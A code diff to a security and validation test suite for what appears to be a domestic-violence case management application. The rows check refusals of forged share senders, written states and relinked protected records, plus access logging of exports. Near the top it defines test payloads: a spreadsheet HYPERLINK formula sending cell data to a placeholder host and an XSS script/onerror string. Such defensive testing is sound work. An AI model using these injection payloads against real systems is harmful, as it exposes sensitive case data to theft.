@@ -22,6 +22,10 @@ from zoneinfo import ZoneInfo
 from clients import MAIL
 from rpc import Client, RpcError
 
+# The guard's German messages (dv.guard.mixin): a state or status written
+# directly, and a field the application sets or fixes at creation.
+STATE_BY_BUTTONS = "Der Status ändert sich nur über die Schaltflächen des Formulars"
+SET_BY_APPLICATION = "kann hier nicht geändert werden: die Anwendung setzt es"
 FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"Details")'
 SCRIPT = '<script>alert("dv")</script><img src="x" onerror="alert(1)">'
 
@@ -50,6 +54,7 @@ class Fixtures:
         self.office = setup["agencies"]["office"]
         self.police = setup["agencies"]["police"]
         self.counselling = setup["agencies"]["counselling"]
+        self.neighbour = setup["agencies"]["neighbour"]
         self.company = setup["companies"]["a"]
         now = datetime.now(UTC).replace(tzinfo=None, microsecond=0)
         self.now = now
@@ -75,7 +80,6 @@ class Fixtures:
 
     def inbound(self, **values):
         vals = {
-            "direction": "inbound",
             "source_type": "police",
             "from_agency_id": self.police,
             "to_agency_id": self.office,
@@ -89,16 +93,17 @@ class Fixtures:
         vals.update(values)
         return vals
 
-    def outbound(self, **values):
+    def share(self, **values):
+        """A share of the case in progress with the counselling centre, as
+        its lead agency's case worker sends it (the addon sets the sender,
+        company and state)."""
         vals = {
-            "direction": "outbound",
             "kind": "share",
             "case_id": self.f["case_progress"],
-            "from_agency_id": self.office,
             "to_agency_id": self.counselling,
-            "company_id": self.company,
             "legal_basis": "statute",
             "legal_norm": "§ 8a SGB VIII",
+            "reason": "Beratung",
         }
         vals.update(values)
         return vals
@@ -211,7 +216,12 @@ def formula_in_list_export(u, f):
         },
         timeout=client.timeout,
     )
-    return {"status": response.status_code, "cells": _cells(response.content)}
+    return {
+        "status": response.status_code,
+        "cells": _cells(response.content),
+        "referral": referral,
+        "uid": client.uid,
+    }
 
 
 def _cells(body):
@@ -241,6 +251,20 @@ def check_formula(_f, result, _sql):
     ):
         return "the text is missing from the workbook"
     return None
+
+
+def check_exported(f, result, sql):
+    """The list export is neutralised, and it is in the access log: one entry
+    for the exported referral, by the user who exported it."""
+    problem = check_formula(f, result, sql)
+    if problem:
+        return problem
+    [(entries,)] = sql(
+        "SELECT count(*) FROM dv_access_log WHERE res_model = 'dv.referral' "
+        "AND res_id = %s AND user_id = %s",
+        [result["referral"], result["uid"]],
+    )
+    return None if entries == 1 else f"{entries} access log entries for the export"
 
 
 def check_safety_plan(f, _result, sql):
@@ -652,22 +676,36 @@ ROWS = (
         german="Datum, an dem die Einwilligung",
     ),
     Row(
-        "outbound_without_legal_basis",
+        "share_without_legal_basis",
         "sharing a case without a legal basis",
         "caseworker",
-        create(
-            "dv.referral", lambda f: f.outbound(legal_basis=False, legal_norm=False)
-        ),
+        create("dv.share", lambda f: f.share(legal_basis=False, legal_norm=False)),
         error="ValidationError",
         german="braucht eine Rechtsgrundlage",
     ),
     Row(
-        "outbound_to_own_lead",
-        "referring a case to its own lead agency",
+        "share_to_own_lead",
+        "sharing a case with its own lead agency",
         "caseworker",
-        create("dv.referral", lambda f: f.outbound(to_agency_id=f.office)),
+        create("dv.share", lambda f: f.share(to_agency_id=f.office)),
         error="ValidationError",
         german="eigene federführende Einrichtung",
+    ),
+    Row(
+        "share_consent_of_other_agency",
+        "a share on consent to another agency than the one consented to",
+        "caseworker",
+        create(
+            "dv.share",
+            lambda f: f.share(
+                to_agency_id=f.neighbour,
+                legal_basis="consent",
+                legal_norm=False,
+                consent_id=f.f["consent"],
+            ),
+        ),
+        error="ValidationError",
+        german="Einwilligung deckt",
     ),
     # State transitions out of order
     Row(
@@ -694,7 +732,7 @@ ROWS = (
         "caseworker",
         write("dv.case", "case_new", lambda f: {"state": "closed"}),
         error="ValidationError",
-        german="hat einen Grund und ein Datum",
+        german=STATE_BY_BUTTONS,
         watch=watch("dv_case", "case_new"),
     ),
     Row(
@@ -703,7 +741,7 @@ ROWS = (
         "caseworker",
         write("dv.case", "case_progress", lambda f: {"state": "new"}),
         error="ValidationError",
-        german="kann nicht vom Status",
+        german=STATE_BY_BUTTONS,
         watch=watch("dv_case", "case_progress"),
     ),
     Row(
@@ -712,17 +750,70 @@ ROWS = (
         "caseworker",
         write("dv.referral", "referral_declined", lambda f: {"state": "received"}),
         error="ValidationError",
-        german="kann nicht vom Status",
+        german=STATE_BY_BUTTONS,
         watch=watch("dv_referral", "referral_declined"),
     ),
     Row(
-        "inbound_accepted",
-        "an outbound state on a police referral",
+        "referral_state_written",
+        "marking a police referral contacted by writing its state",
         "caseworker",
-        write("dv.referral", "referral_open", lambda f: {"state": "accepted"}),
+        write("dv.referral", "referral_open", lambda f: {"state": "contacted"}),
         error="ValidationError",
-        german="kann nicht vom Status",
+        german=STATE_BY_BUTTONS,
         watch=watch("dv_referral", "referral_open"),
+    ),
+    Row(
+        "share_state_written",
+        "the sender accepting its own share by writing its state",
+        "caseworker",
+        write("dv.share", "share", lambda f: {"state": "accepted"}),
+        error="ValidationError",
+        german=STATE_BY_BUTTONS,
+        watch=watch("dv_share", "share"),
+    ),
+    Row(
+        "share_created_accepted",
+        "a share created as already accepted",
+        "caseworker",
+        create("dv.share", lambda f: f.share(state="accepted")),
+        error="ValidationError",
+        german=STATE_BY_BUTTONS,
+    ),
+    Row(
+        "share_accepted_by_sender",
+        "the sender accepting its own share with the receiver's button",
+        "caseworker",
+        method("dv.share", "share", "action_accept"),
+        error="AccessError",
+        german="beantworten",
+        watch=watch("dv_share", "share"),
+    ),
+    Row(
+        "action_status_written",
+        "a conference action marked done by writing its status",
+        "manager",
+        write(
+            "dv.conference.action",
+            "action",
+            lambda f: {"status": "done"},
+            user="manager",
+        ),
+        error="ValidationError",
+        german=STATE_BY_BUTTONS,
+        watch=watch("dv_conference_action", "action"),
+    ),
+    Row(
+        "action_status_by_owner",
+        "the owner agency writing its action's status and due date",
+        "caseworker",
+        write(
+            "dv.conference.action",
+            "action",
+            lambda f: {"status": "done", "due_date": str(f.future)},
+        ),
+        error="AccessError",
+        german="meldet ihren Stand",
+        watch=watch("dv_conference_action", "action"),
     ),
     Row(
         "contact_declined_referral",
@@ -750,22 +841,6 @@ ROWS = (
         german="keine weiteren Kontaktversuche",
     ),
     Row(
-        "attempt_on_outbound",
-        "contact attempt on a referral to another agency",
-        "caseworker",
-        create(
-            "dv.contact.attempt",
-            lambda f: {
-                "referral_id": f.f["outbound"],
-                "channel_id": f.setup["channel_phone"],
-                "outcome": "reached",
-                "attempted_at": f.dt(f.now),
-            },
-        ),
-        error="ValidationError",
-        german="eingehenden Meldungen",
-    ),
-    Row(
         "unreachable_without_attempts",
         "marking unreachable before any attempt",
         "caseworker",
@@ -791,6 +866,79 @@ ROWS = (
         error="AccessError",
         german="zu löschen",
         watch=watch("dv_case", "case_new"),
+    ),
+    # Fields the application sets, and what is fixed at creation
+    Row(
+        "share_case_changed",
+        "pointing a sent share at another case",
+        "caseworker",
+        write("dv.share", "share", lambda f: {"case_id": f.f["case_new"]}),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_share", "share"),
+    ),
+    Row(
+        "share_recipient_changed",
+        "redirecting a sent share to another agency",
+        "caseworker",
+        write("dv.share", "share", lambda f: {"to_agency_id": f.neighbour}),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_share", "share"),
+    ),
+    Row(
+        "share_consent_changed",
+        "resting a sent share on a consent afterwards",
+        "caseworker",
+        write(
+            "dv.share",
+            "share",
+            lambda f: {"legal_basis": "consent", "consent_id": f.f["consent"]},
+        ),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_share", "share"),
+    ),
+    Row(
+        "share_forged_sender",
+        "a share naming another agency as its sender",
+        "caseworker",
+        create("dv.share", lambda f: f.share(from_agency_id=f.neighbour)),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+    ),
+    Row(
+        "case_victim_changed",
+        "making the perpetrator the victim of a case by its link",
+        "caseworker",
+        write("dv.case", "case_progress", lambda f: {"victim_id": f.f["perpetrator"]}),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_case", "case_progress"),
+    ),
+    Row(
+        "person_protected_changed",
+        "linking a victim to another person's protected details",
+        "caseworker",
+        write(
+            "dv.person", "victim", lambda f: {"protected_id": f.f["protected_other"]}
+        ),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_person", "victim"),
+    ),
+    Row(
+        "attempt_moved",
+        "moving a contact attempt to another referral",
+        "caseworker",
+        write(
+            "dv.contact.attempt",
+            "attempt",
+            lambda f: {"referral_id": f.f["referral_open"]},
+        ),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_contact_attempt", "attempt"),
     ),
     # Other refusals of the application
     Row(
@@ -1075,8 +1223,15 @@ ROWS = (
         "caseworker",
         formula_in_list_export,
         expect="neutralised",
-        check=check_formula,
-        grows=("dv_referral", "dv_case", "dv_person", "mail_message", "mail_activity"),
+        check=check_exported,
+        grows=(
+            "dv_referral",
+            "dv_case",
+            "dv_person",
+            "dv_access_log",
+            "mail_message",
+            "mail_activity",
+        ),
     ),
     # HTML and script
     Row(
